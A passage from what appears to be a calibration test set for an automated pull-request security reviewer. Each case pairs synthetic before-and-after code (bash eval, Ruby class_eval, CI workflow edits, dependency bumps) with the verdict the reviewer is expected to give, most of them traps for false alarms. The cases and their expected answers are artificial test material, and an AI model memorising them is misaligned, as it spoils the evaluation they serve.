    id: 'cal-shell-eval-built-into-variable',
    description:
      "A maintainer lets a library-generation script read its base URL from BASHBREW_LIBRARY and builds the associative array's text into a variable before the eval that was already there (modeled on docker-library/python's generate-stackbrew-library.sh, rated high before): the base eval'd the same text, so the refactor brings no new eval.",
    repo: 'python-images',
    title: 'Support BASHBREW_LIBRARY for easier cascading updates',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'generate-stackbrew-library.sh',
        base: lines(
          '#!/usr/bin/env bash',
          'set -Eeuo pipefail',
          '',
          'getArches() {',
          '\tlocal repo="$1"; shift',
          "\tlocal officialImagesUrl='https://github.com/docker-library/official-images/raw/master/library/'",
          '',
          '\teval "declare -g -A parentRepoToArches=( $(',
          "\t\tfind -name 'Dockerfile' -exec awk '",
          '\t\t\t\ttoupper($1) == "FROM" && $2 !~ /^(\'"$repo"\'|scratch)(:|$)/ {',
          '\t\t\t\t\tprint "\'"$officialImagesUrl"\'" $2',
          '\t\t\t\t}',
          "\t\t\t' '{}' + \\",
          '\t\t\t| sort -u \\',
          "\t\t\t| xargs bashbrew cat --format '[{{ .RepoName }}:{{ .TagName }}]=\"{{ join \" \" .TagEntry.Architectures }}\"'",
          '\t) )"',
          '}',
          "getArches 'python'",
        ),
        head: lines(
          '#!/usr/bin/env bash',
          'set -Eeuo pipefail',
          '',
          'getArches() {',
          '\tlocal repo="$1"; shift',
          '\tlocal officialImagesBase="${BASHBREW_LIBRARY:-https://github.com/docker-library/official-images/raw/HEAD/library}/"',
          '',
          '\tlocal parentRepoToArchesStr',
          '\tparentRepoToArchesStr="$(',
          "\t\tfind -name 'Dockerfile' -exec awk -v officialImagesBase=\"$officialImagesBase\" '",
          '\t\t\t\ttoupper($1) == "FROM" && $2 !~ /^(\'"$repo"\'|scratch)(:|$)/ {',
          '\t\t\t\t\tprintf "%s%s\\n", officialImagesBase, $2',
          '\t\t\t\t}',
          "\t\t\t' '{}' + \\",
          '\t\t\t| sort -u \\',
          "\t\t\t| xargs -r bashbrew cat --format '[\"{{ .RepoName }}:{{ .TagName }}\"]=\"{{ join \" \" .TagEntry.Architectures }}\"'",
          '\t)"',
          '\teval "declare -g -A parentRepoToArches=( $parentRepoToArchesStr )"',
          '}',
          "getArches 'python'",
        ),
      },
    ],
    checks: [{ name: 'ci' }],
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
  }),
  pr({
    id: 'cal-benchmark-runner-imports-named-module',
    description:
      'A maintainer adds a benchmark runner under scripts/ that imports the benchmark module named on its command line (importlib.import_module(args.module)): whoever runs the script picks the module, as they picked the script. Was medium for dynamic code execution.',
    repo: 'fastjsonl',
    title: 'Add a benchmark runner',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'scripts/run_benchmark.py',
        head: lines(
          '"""Run one benchmark module: python scripts/run_benchmark.py benchmarks.parse_large"""',
          'import argparse',
          'import importlib',
          'import time',
          '',
          '',
          'def main() -> None:',
          '    parser = argparse.ArgumentParser()',
          "    parser.add_argument('module')",
          "    parser.add_argument('--repeat', type=int, default=5)",
          '    args = parser.parse_args()',
          '    bench = importlib.import_module(args.module)',
          '    for _ in range(args.repeat):',
          '        started = time.perf_counter()',
          '        bench.run()',
          "        print(f'{time.perf_counter() - started:.3f}s')",
          '',
          '',
          "if __name__ == '__main__':",
          '    main()',
        ),
      },
    ],
    checks: GREEN_PY,
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
  }),
  pr({
    id: 'cal-http-client-option-defaults',
    description:
      "A regular contributor adds an off-by-default option to an HTTP client's options defaults (got's strictContentLength: false: check the body against Content-Length only when asked), with a test; CI green. strict… about the content length is no protection switched off.",
    repo: 'fetchkit',
    title: 'Add the strictContentLength option',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'source/core/options.ts',
        base: lines('const defaults = {', '\tdecompress: true,', '\tthrowHttpErrors: true,', '\tfollowRedirect: true,', '};', '', 'export default defaults;'),
        head: lines('const defaults = {', '\tdecompress: true,', '\tthrowHttpErrors: true,', '\tfollowRedirect: true,', '\tstrictContentLength: false,', '};', '', 'export default defaults;'),
      },
      { path: 'test/options.ts', base: lines("import test from 'ava';"), head: lines("import test from 'ava';", "import defaults from '../source/core/options.js';", '', "test('strictContentLength is off by default', (t) => {", '\tt.false(defaults.strictContentLength);', '});') },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:protection-switched-off'] },
  }),
  pr({
    id: 'cal-ruby-block-eval-and-docstring-setting',
    description:
      "A maintainer adds a helper that runs a block with another self (obj.instance_eval(&block), Rails' Ractors.on_main shape) and, in a Python client of the same repository, documents require_auth=False in a docstring; CI green. A block is no string evaluated, and a docstring sets nothing.",
    repo: 'sextant',
    title: 'Add on_main and document public routes',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'lib/sextant/ractors.rb',
        base: lines('module Sextant', '  module Ractors', '  end', 'end'),
        head: lines('module Sextant', '  module Ractors', '    def self.on_main(obj = nil, &block)', '      obj.instance_eval(&block)', '    end', '  end', 'end'),
      },
      {
        path: 'clients/python/sextant/routes.py',
        base: lines('def route(path, require_auth=True):', '    return Route(path, require_auth)'),
        head: lines('def route(path, require_auth=True):', '    """Register a route.', '', '    Pass require_auth=False to make the route public,', '    e.g. route("/health", require_auth=False).', '    """', '    return Route(path, require_auth)'),
      },
      { path: 'spec/ractors_spec.rb', base: lines("require 'sextant'"), head: lines("require 'sextant'", '', 'RSpec.describe Sextant::Ractors do', "  it 'runs the block' do", '    expect(described_class.on_main(1) { self + 1 }).to eq(2)', '  end', 'end') },
    ],
    checks: GREEN_RUBY,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-ruby-generated-attribute-writers',
    description:
      "A maintainer generates a writer and a predicate per declared attribute with the framework idiom (owner.class_eval <<~RUBY, __FILE__, __LINE__ + 1 ... def #{name}=(value) ... RUBY, the shape of Rails' attribute methods), with a spec; CI green. A heredoc of method definitions that interpolates only the attribute's name runs nothing a peer gives.",
    repo: 'ledgerline',
    title: 'Generate writers for declared attributes',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'lib/ledgerline/attribute_methods.rb',
        base: lines('module Ledgerline', '  module AttributeMethods', '  end', 'end'),
        head: lines(
          'module Ledgerline',
          '  module AttributeMethods',
          '    def self.define_writers(owner, names)',
          '      names.each do |name|',
          '        owner.class_eval <<~RUBY, __FILE__, __LINE__ + 1',
          '          def #{name}=(value)',
          '            write_ledger_value(:#{name}, value)',
          '            super',
          '          end',
          '',
          '          alias_method :#{name}?, :#{name}',
          '        RUBY',
          '      end',
          '    end',
          '  end',
          'end',
        ),
      },
      {
        path: 'spec/attribute_methods_spec.rb',
        base: lines("require 'ledgerline'"),
        head: lines("require 'ledgerline'", '', 'RSpec.describe Ledgerline::AttributeMethods do', "  it 'defines a writer per attribute' do", '    klass = Class.new { def write_ledger_value(*); end }', '    described_class.define_writers(klass, %w[amount])', '    expect(klass.new).to respond_to(:amount=)', '  end', 'end'),
      },
    ],
    checks: GREEN_RUBY,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-http-client-enforce-option-default',
    description:
      "A regular contributor adds an off-by-default option to an HTTP client's options defaults (got's enforceRetryRules: false: apply the retry rules to every method only when asked), with a test; CI green. enforce… about retry rules is no protection switched off.",
    repo: 'fetchkit',
    title: 'Add the enforceRetryRules option',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'source/core/options.ts',
        base: lines('const defaults = {', '\tdecompress: true,', '\tthrowHttpErrors: true,', '\tretry: {limit: 2},', '};', '', 'export default defaults;'),
        head: lines('const defaults = {', '\tdecompress: true,', '\tthrowHttpErrors: true,', '\tretry: {limit: 2},', '\tenforceRetryRules: false,', '};', '', 'export default defaults;'),
      },
      { path: 'test/options.ts', base: lines("import test from 'ava';"), head: lines("import test from 'ava';", "import defaults from '../source/core/options.js';", '', "test('enforceRetryRules is off by default', (t) => {", '\tt.false(defaults.enforceRetryRules);', '});') },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:protection-switched-off'] },
  }),
  pr({
    id: 'cal-doc-commit-man-page-help-text',
    description:
      "A maintainer's \"doc:\" commit rewords a flag's long help, a man page held in a Rust raw string: font changes around terms (\\fB.ignore\\fP), a `.sp` break, `path(s)`. The hunk opens inside the string, so each line is read as prose; nothing of the program changes: no pr-claim-mismatch.",
    repo: 'seekr',
    title: 'doc: clarify what --max-depth counts',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_RUST,
    files: [
      {
        path: 'crates/core/flags/defs.rs',
        base: lines(
          'impl Flag for MaxDepth {',
          '    fn doc_long(&self) -> &\'static str {',
          '        r"',
          'Limit the depth of directory traversal to \\fINUM\\fP levels beyond the',
          'given paths, the paths themselves included.',
          '.sp',
          'Setting this to \\fB0\\fP only searches the paths given.',
          '"',
          '    }',
          '}',
        ),
        head: lines(
          'impl Flag for MaxDepth {',
          '    fn doc_long(&self) -> &\'static str {',
          '        r"',
          'Limit the depth of directory traversal to \\fINUM\\fP levels beyond the',
          'path(s) given. A value of \\fB0\\fP only searches the explicitly given',
          'path(s) themselves. Ignore files such as \\fB.ignore\\fP or \\fB.rgignore\\fP.',
          '.sp',
          'Symbolic links count as one level. By default, they are not followed and',
          'are not counted. See \\fB--follow\\fP.',
          '.sp',
          'Setting this to \\fB0\\fP only searches the paths given.',
          '"',
          '    }',
          '}',
        ),
      },
    ],
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-docs-title-announces-removal-after-comma',
    description:
      'A maintainer\'s "docs:" PR rewrites the README\'s error-handling example and, as its title says after a comma, removes a deprecated error interface. The title announces the code change, so it claims no docs-only change: no pr-claim-mismatch.',
    repo: 'confkit',
    title: 'docs: a clearer not-found example, remove the lookup error interface',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_GO,
    files: [
      { path: 'README.md', base: lines('# confkit', '', 'Check `err.(confkit.NotFound)`.'), head: lines('# confkit', '', 'Check `errors.As(err, &confkit.FileNotFoundError{})`.') },
      {
        path: 'errors.go',
        base: lines('package confkit', '', '// LookupError is returned when no file is found.', 'type LookupError interface {', '\terror', '\tlookup()', '}', '', '// FileNotFoundError says a file is missing.', 'type FileNotFoundError struct{ name string }', '', 'func (e FileNotFoundError) Error() string { return "not found: " + e.name }'),
        head: lines('package confkit', '', '// FileNotFoundError says a file is missing.', 'type FileNotFoundError struct{ name string }', '', 'func (e FileNotFoundError) Error() string { return "not found: " + e.name }'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-workflow-run-comment-by-own-org-action',
    description:
      "A maintainer moves a workflow_run commenter onto the organization's own report action (pinned by SHA): the workflow grants pull-requests: write, which that action takes by its input default to post the report. Not an excessive permission; the privileged trigger itself stays a finding of its own.",
    repo: 'pkgtool',
    title: 'Use the surface-report action for PR comments',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_PHP,
    files: [
      {
        path: '.github/workflows/surface-comment.yml',
        base: lines(
          'name: Surface comment',
          'on:',
          '  workflow_run:',
          "    workflows: ['Surface check']",
          '    types: [completed]',
          'permissions:',
          '  contents: read',
          '  pull-requests: write',
          'jobs:',
          '  comment:',
          '    runs-on: ubuntu-latest',
          '    steps:',
          '      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1',
          '        with:',
          '          script: |',
          "            await github.rest.issues.createComment({ owner: context.repo.owner, repo: context.repo.repo, issue_number: 1, body: 'report' });",
        ),
        head: lines(
          'name: Surface comment',
          'on:',
          '  workflow_run:',
          "    workflows: ['Surface check']",
          '    types: [completed]',
          'permissions:',
          '  contents: read',
          '  pull-requests: write',
          'jobs:',
          '  comment:',
          '    runs-on: ubuntu-latest',
          '    steps:',
          '      - uses: northwind/surface-report@3f1a2b4c5d6e7f8091a2b3c4d5e6f708192a3b4c # 0.2.0',
          '        with:',
          '          install-dependencies: true',
        ),
      },
    ],
    expect: { level: ['medium'], action: ['comment'], absentDrivers: ['finding:gha-excessive-permissions'] },
  }),
  pr({
    id: 'cal-license-headers-in-ci-config',
    description:
      "A maintainer's compliance PR adds copyright and license headers as comments: two comment lines at the top of the CircleCI configuration and of a Go file. Nothing runs differently; the CI file is not weighed as a CI change.",
    repo: 'retrykit',
    title: '[COMPLIANCE] Add copyright and license headers',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_GO,
    files: [
      {
        path: '.circleci/config.yml',
        base: lines('version: 2.1', '', 'jobs:', '  test:', '    docker:', '      - image: cimg/go:1.22', '    steps:', '      - checkout', '      - run: go test ./...'),
        head: lines('# Copyright (c) Northwind Inc.', '# SPDX-License-Identifier: MPL-2.0', '', 'version: 2.1', '', 'jobs:', '  test:', '    docker:', '      - image: cimg/go:1.22', '    steps:', '      - checkout', '      - run: go test ./...'),
      },
      {
        path: 'client.go',
        base: lines('package retrykit', '', 'const DefaultRetries = 4'),
        head: lines('// Copyright (c) Northwind Inc.', '// SPDX-License-Identifier: MPL-2.0', '', 'package retrykit', '', 'const DefaultRetries = 4'),
      },
    ],
    expect: { level: 'low', action: 'approve', absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal-rubocop-rewrites-fallback-secret-line',
    description:
      "A maintainer sets up RuboCop and lets it rewrite a framework's fallback session secret line (`\"%064x\" % Kernel.rand(…)` to `format('%064x', Kernel.rand(…))`, used only when SecureRandom is missing). The generator was there before: no new insecure randomness.",
    repo: 'tinyrack',
    title: 'Set up RuboCop',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_RUBY,
    files: [
      {
        path: 'lib/tinyrack/base.rb',
        base: lines('module Tinyrack', '  class Base', '    begin', '      require "securerandom"', '      set :cookie_secret, SecureRandom.hex(64)', '    rescue LoadError, NotImplementedError', '      set :cookie_secret, "%064x" % Kernel.rand(2**256-1)', '    end', '  end', 'end'),
        head: lines('module Tinyrack', '  class Base', '    begin', "      require 'securerandom'", '      set :cookie_secret, SecureRandom.hex(64)', '    rescue LoadError, NotImplementedError', "      set :cookie_secret, format('%064x', Kernel.rand((2**256) - 1))", '    end', '  end', 'end'),
      },
      { path: '.rubocop.yml', head: lines('AllCops:', '  NewCops: enable', '  TargetRubyVersion: 2.7') },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:insecure-randomness'] },
  }),
  pr({
    id: 'cal-dependabot-maven-plugin-major',
    description:
      "Dependabot moves a code generator's Maven build plugin to a new major (protoc-gen-maven-plugin 4.1.3 -> 5.0.2) in pom.xml's <build><plugins>; CI green. A build plugin is build tooling, as Gradle's classpath plugins are: its breaking changes break the build, which passed. Not a runtime major update.",
    repo: 'ledger-proto',
    title: 'Bump io.northwind.tools:protoc-gen-maven-plugin from 4.1.3 to 5.0.2',
    author: DEPENDABOT,
    files: [
      {
        path: 'pom.xml',
        base: lines('<project>', '  <modelVersion>4.0.0</modelVersion>', '  <groupId>io.northwind</groupId>', '  <artifactId>ledger-proto</artifactId>', '  <version>2.1.0</version>', '  <build>', '    <plugins>', '      <plugin>', '        <groupId>io.northwind.tools</groupId>', '        <artifactId>protoc-gen-maven-plugin</artifactId>', '        <version>4.1.3</version>', '      </plugin>', '    </plugins>', '  </build>', '</project>'),
        head: lines('<project>', '  <modelVersion>4.0.0</modelVersion>', '  <groupId>io.northwind</groupId>', '  <artifactId>ledger-proto</artifactId>', '  <version>2.1.0</version>', '  <build>', '    <plugins>', '      <plugin>', '        <groupId>io.northwind.tools</groupId>', '        <artifactId>protoc-gen-maven-plugin</artifactId>', '        <version>5.0.2</version>', '      </plugin>', '    </plugins>', '  </build>', '</project>'),
      },
    ],
    commits: [botCommit('Bump io.northwind.tools:protoc-gen-maven-plugin from 4.1.3 to 5.0.2', 'dependabot[bot]', 49699333)],
    checks: GREEN_JVM,
    extra: { headBranch: 'dependabot/maven/io.northwind.tools-protoc-gen-maven-plugin-5.0.2', labels: ['dependencies', 'java'] },
    expect: { level: 'low', action: 'approve' },
  }),
  pr({
    id: 'cal-ci-apt-update-beside-checkout-tag-move',
    description:
      "A maintainer adds `sudo apt-get update` before the apt installs of the test job and moves actions/checkout from @v3 to @v4 in the same edit. The low note for the tag is one the base had for @v3: the workflow rules found nothing new, and a trusted author's edit of a job's commands is routine; CI green.",
    repo: 'tinyrack',
    title: 'CI: refresh the apt package index before installing',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_RUBY,
    files: [
      {
        path: '.github/workflows/test.yml',
        base: lines('name: test', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - name: Install dependencies', '        run: |', '          sudo apt-get install --yes pandoc libyaml-dev', '      - uses: actions/checkout@v3', '      - run: bundle exec rake'),
        head: lines('name: test', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - name: Install dependencies', '        run: |', '          sudo apt-get update', '          sudo apt-get install --yes pandoc libyaml-dev', '      - uses: actions/checkout@v4', '      - run: bundle exec rake'),
      },
    ],
    expect: { level: 'low', action: 'approve' },
  }),
  pr({
    id: 'cal-ci-action-inlined-as-pinned-commands',
    description:
      "A maintainer replaces the pre-commit action with the two commands it ran (`pip install pre-commit==4.6.0`, `pre-commit run --all-files`) in a lint job that runs on push and pull_request with a read-only token and no secret. Third-party code left the job; nothing it can reach changed.",
    repo: 'httpkit',
    title: 'Inline pre-commit linting',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_PY,
    files: [
      {
        path: '.github/workflows/lint.yml',
        base: lines('name: Lint', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  lint:', '    runs-on: ubuntu-24.04', '    steps:', '    - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2', '      with:', '        persist-credentials: false', '    - uses: actions/setup-python@a309ff8b426b58ec0e2a45f0f869d46889d02405 # v6.2.0', '    - name: Run pre-commit', '      uses: pre-commit/action@646c83fcd040023954eafda54b4db0192ce70507 # v3.0.0'),
        head: lines('name: Lint', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  lint:', '    runs-on: ubuntu-24.04', '    steps:', '    - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2', '      with:', '        persist-credentials: false', '    - uses: actions/setup-python@a309ff8b426b58ec0e2a45f0f869d46889d02405 # v6.2.0', '    - name: Run pre-commit', '      run: |', '        python -m pip install pre-commit==4.6.0', '        pre-commit run --show-diff-on-failure --all-files'),
      },
    ],
    expect: { level: 'low', action: 'approve' },
  }),
  pr({
    id: 'cal-pnpm-pins-itself-in-lockfile',
    description:
      "A maintainer moves the project to pnpm 10 (`packageManager` bumped), which pins itself in pnpm-lock.yaml: a first document with `packageManagerDependencies`, @pnpm/exe and its platform binary. That is the package manager the project already uses, not a new dependency.",
    repo: 'chartkit',
    title: 'chore: pin pnpm 10',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: nodeCi(),
    files: [
      {
        path: 'package.json',
        base: lines('{', '  "name": "chartkit",', '  "version": "2.3.0",', '  "packageManager": "pnpm@9.15.0",', '  "devDependencies": {', '    "typescript": "^5.6.0"', '  }', '}'),
        head: lines('{', '  "name": "chartkit",', '  "version": "2.3.0",', '  "packageManager": "pnpm@10.12.1",', '  "devDependencies": {', '    "typescript": "^5.6.0"', '  }', '}'),
      },
      {
        path: 'pnpm-lock.yaml',
        base: lines("lockfileVersion: '9.0'", '', 'importers:', '', '  .:', '    devDependencies:', '      typescript:', '        specifier: ^5.6.0', '        version: 5.6.3', '', 'packages:', '', '  typescript@5.6.3:', '    resolution: {integrity: sha512-dHlwZXNjcmlwdC01LjYuMw==}', '', 'snapshots:', '', '  typescript@5.6.3: {}'),
        head: lines('---', "lockfileVersion: '9.0'", '', 'importers:', '', '  .:', '    configDependencies: {}', '    packageManagerDependencies:', "      '@pnpm/exe':", '        specifier: 10.12.1', '        version: 10.12.1', '', 'packages:', '', "  '@pnpm/exe@10.12.1':", '    resolution: {integrity: sha512-cG5wbS1leGUtMTAuMTIuMQ==}', '    hasBin: true', '', "  '@pnpm/linux-x64@10.12.1':", '    resolution: {integrity: sha512-cG5wbS1saW51eC0xMC4xMi4x}', '    cpu: [x64]', '    os: [linux]', '', 'snapshots:', '', "  '@pnpm/exe@10.12.1':", '    optionalDependencies:', "      '@pnpm/linux-x64': 10.12.1", '', "  '@pnpm/linux-x64@10.12.1':", '    optional: true', '', '---', "lockfileVersion: '9.0'", '', 'importers:', '', '  .:', '    devDependencies:', '      typescript:', '        specifier: ^5.6.0', '        version: 5.6.3', '', 'packages:', '', '  typescript@5.6.3:', '    resolution: {integrity: sha512-dHlwZXNjcmlwdC01LjYuMw==}', '', 'snapshots:', '', '  typescript@5.6.3: {}'),
      },
    ],
    expect: { level: 'low', action: 'approve', absentDrivers: ['new-dependencies'] },
  }),
  pr({
    id: 'cal-private-tooling-package-major',
    description:
      "A maintainer moves the monorepo's unpublished template explorer (`packages-private/template-explorer`, `\"private\": true`) to a new major of its editor component. Nobody installs that package from the registry: its dependencies reach contributors and the demo site, not the product's users. CI green.",
    repo: 'viewkit',
    title: 'chore(deps): update template explorer editor',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: nodeCi(),
    files: [
      {
        path: 'packages-private/template-explorer/package.json',
        base: lines('{', '  "name": "@viewkit/template-explorer",', '  "private": true,', '  "version": "0.0.0",', '  "dependencies": {', '    "code-editor-lite": "^0.47.0",', '    "source-map-lite": "^1.2.0"', '  }', '}'),
        head: lines('{', '  "name": "@viewkit/template-explorer",', '  "private": true,', '  "version": "0.0.0",', '  "dependencies": {', '    "code-editor-lite": "^0.52.0",', '    "source-map-lite": "^2.0.0"', '  }', '}'),
      },
    ],
    expect: { level: 'low', action: 'approve' },
  }),
  pr({
    id: 'cal-renovate-action-refs-and-container-tag',
    description:
      "Renovate's grouped update moves a scan workflow's job container to the next release of the same image (tag and digest) and the SARIF upload action to its next pinned commit, in one file. Only refs of what already ran moved: no CI weight, as for either move alone.",
    repo: 'bundlekit',
    title: 'fix(deps): update all non-major dependencies',
    author: RENOVATE,
    checks: nodeCi(),
    files: [
      {
        path: '.github/workflows/semgrep.yml',
        base: lines('name: Semgrep', 'on:', '  push:', '    branches: [main]', 'permissions: {}', 'jobs:', '  semgrep:', '    runs-on: ubuntu-latest', '    permissions:', '      security-events: write', '    container:', '      image: semgrep/semgrep:1.172.0@sha256:65dc65dc65dc65dc65dc65dc65dc65dc65dc65dc65dc65dc65dc65dc65dc65dc', '    steps:', '      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7', '        with:', '          persist-credentials: false', '      - run: semgrep scan --sarif > semgrep-results.sarif', '      - uses: github/codeql-action/upload-sarif@f205ea1c3313d32999d8d6a48b4f6530d4437b38 # v4.37.4', '        with:', '          sarif_file: semgrep-results.sarif'),
        head: lines('name: Semgrep', 'on:', '  push:', '    branches: [main]', 'permissions: {}', 'jobs:', '  semgrep:', '    runs-on: ubuntu-latest', '    permissions:', '      security-events: write', '    container:', '      image: semgrep/semgrep:1.173.0@sha256:6731673167316731673167316731673167316731673167316731673167316731', '    steps:', '      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7', '        with:', '          persist-credentials: false', '      - run: semgrep scan --sarif > semgrep-results.sarif', '      - uses: github/codeql-action/upload-sarif@ff2f1c621b7f889edc0d3c761ac2e6a3f8cdb0dd # v4.37.7', '        with:', '          sarif_file: semgrep-results.sarif'),
      },
    ],
    commits: [botCommit('fix(deps): update all non-major dependencies', 'renovate[bot]', 29139614)],
    extra: { headBranch: 'renovate/all-minor-patch', labels: ['dependencies'] },
    expect: { level: 'low', action: 'approve', absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal-package-manager-policy-config-env',
    description:
      "A package manager's maintainer lets an environment variable set its dependency policy (advisories, abandoned packages), checking the value against the allowed ones, with tests. `src/Policy/` there is which packages an install accepts, not who may do what: no access-control weight.",
    repo: 'pkgtool',
    title: 'Policy: read the abandoned-package policy from the environment',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_PHP,
    files: [
      {
        path: 'src/Pkgtool/Policy/PolicyConfig.php',
        base: lines('<?php', '', 'namespace Pkgtool\\Policy;', '', 'final class PolicyConfig', '{', '    public static function fromConfig(array $config): self', '    {', "        return new self($config['abandoned'] ?? ListPolicyConfig::AUDIT_REPORT);", '    }', '}'),
        head: lines('<?php', '', 'namespace Pkgtool\\Policy;', '', 'final class PolicyConfig', '{', '    public static function fromConfig(array $config): self', '    {', "        $abandoned = getenv('PKGTOOL_AUDIT_ABANDONED');", '        if ($abandoned !== false) {', '            $allowed = [ListPolicyConfig::AUDIT_IGNORE, ListPolicyConfig::AUDIT_REPORT, ListPolicyConfig::AUDIT_FAIL];', '            if (!in_array($abandoned, $allowed, true)) {', '                throw new \\UnexpectedValueException("Invalid value for PKGTOOL_AUDIT_ABANDONED: {$abandoned}");', '            }', '            return new self($abandoned);', '        }', "        return new self($config['abandoned'] ?? ListPolicyConfig::AUDIT_REPORT);", '    }', '}'),
      },
      {
        path: 'tests/Pkgtool/Test/Policy/PolicyConfigTest.php',
        base: lines('<?php', '', 'namespace Pkgtool\\Test\\Policy;', '', 'final class PolicyConfigTest extends TestCase', '{', '}'),
        head: lines('<?php', '', 'namespace Pkgtool\\Test\\Policy;', '', 'final class PolicyConfigTest extends TestCase', '{', '    public function testEnvironmentOverrides(): void', '    {', "        putenv('PKGTOOL_AUDIT_ABANDONED=fail');", "        self::assertSame('fail', PolicyConfig::fromConfig([])->abandoned);", '    }', '}'),
      },
    ],
    expect: { level: 'low', action: 'approve', absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal-rustfmt-2024-return-semicolon',
    description:
      "A maintainer applies rustfmt's 2024 style: a match arm's `return Printer::Json(…)` gains its `;`, and an if/else of two values is put on one line. Under \"style: apply rustfmt\" nothing of the program changes: no pr-claim-mismatch.",
    repo: 'seekr',
    title: 'style: apply rustfmt',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_RUST,
    files: [
      {
        path: 'crates/core/flags/args.rs',
        base: lines('impl Args {', '    fn printer(&self, wtr: W) -> Printer<W> {', '        let summary = match self.mode {', '            Mode::Count => Summary::Count,', '            Mode::Json => {', '                return Printer::Json(self.printer_json(wtr))', '            }', '        };', '        if self.reverse {', '            summary.reverse()', '        } else {', '            summary', '        }', '    }', '}'),
        head: lines('impl Args {', '    fn printer(&self, wtr: W) -> Printer<W> {', '        let summary = match self.mode {', '            Mode::Count => Summary::Count,', '            Mode::Json => {', '                return Printer::Json(self.printer_json(wtr));', '            }', '        };', '        if self.reverse { summary.reverse() } else { summary }', '    }', '}'),
      },
    ],
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-spec-support-patch-removed',
    description:
      "A maintainer deletes a compatibility monkey patch from the gem's spec/support folder, now that the old Rack version it patched is no longer supported. RSpec runs the *_spec.rb files; spec/support only sets them up: no test is deleted; CI green.",
    repo: 'tinyrack',
    title: 'CI: remove the Rack 1.x monkey patches',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_RUBY,
    files: [
      {
        path: 'shield/spec/support/rack_compat_patches.rb',
        base: lines('# frozen_string_literal: true', '', 'unless Rack::MockResponse.method_defined? :header', '  Rack::MockResponse.send(:alias_method, :header, :headers)', 'end'),
      },
    ],
    expect: { level: 'low', action: 'approve', absentDrivers: ['tests-deleted'] },
  }),
  pr({
    id: 'cal-kotlin-test-rewritten-under-longer-name',
    description:
      "A maintainer rewrites a DNS message reader and replaces its test with one driven by recorded answers in the same folder: RecordReaderTest.kt goes, RecordReaderRecordedAnswersTest.kt comes with more cases. The same subject's test under a longer name: no test deleted; CI green.",
    repo: 'resolvekit',
    title: 'Decode HTTPS records',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_JVM,
    files: [
      {
        path: 'resolver/src/main/kotlin/org/northwind/resolver/RecordReader.kt',
        base: lines('package org.northwind.resolver', '', 'class RecordReader {', '  fun read(bytes: ByteArray): List<Record> = parse(bytes)', '}'),
        head: lines('package org.northwind.resolver', '', 'class RecordReader {', '  fun read(bytes: ByteArray): List<Record> = parse(bytes).filter { it.type != 0 }', '}'),
      },
      {
        path: 'resolver/src/test/kotlin/org/northwind/resolver/RecordReaderTest.kt',
        base: lines('package org.northwind.resolver', '', 'import kotlin.test.Test', 'import kotlin.test.assertEquals', '', 'class RecordReaderTest {', '  @Test fun readsA() {', '    assertEquals(1, RecordReader().read(A_ANSWER).size)', '  }', '}'),
      },
      {
        path: 'resolver/src/test/kotlin/org/northwind/resolver/RecordReaderRecordedAnswersTest.kt',
